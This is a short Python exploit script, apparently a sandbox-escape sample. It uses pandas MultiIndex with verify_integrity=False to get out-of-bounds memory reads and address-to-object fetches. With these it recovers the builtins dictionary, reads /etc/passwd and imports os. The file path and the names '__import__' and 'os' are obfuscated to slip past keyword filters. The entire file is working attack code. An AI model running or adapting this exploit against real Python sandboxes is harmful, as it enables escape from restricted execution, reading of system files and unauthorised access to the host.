# source: pandas MultiIndex(levels, codes, verify_integrity=False) docs; algos.take_nd in get_level_values is unchecked
# family: memory safety - public constructor flag skips validation (MultiIndex verify_integrity=False) -> OOB read + addr->object fetch
# goal: builtins dict via func_builtins, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
levi = pd.Index(np.frombuffer(raw, dtype=np.int64))
base = id(raw) + 32


def rd(addr):
    k = np.array([(addr - base) // 8])
    mi = pd.MultiIndex(levels=[levi], codes=[k], verify_integrity=False)
    return int(mi.get_level_values(0)[0])


levo = pd.Index(np.arange(N).astype(object), dtype=object)
mo = pd.MultiIndex(levels=[levo], codes=[[0]], verify_integrity=False)
obase = rd(id(mo.levels[0].values) + 16)


def fetch(addr):
    k = np.array([(addr - obase) // 8])
    mi = pd.MultiIndex(levels=[levo], codes=[k], verify_integrity=False)
    return mi.get_level_values(0)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
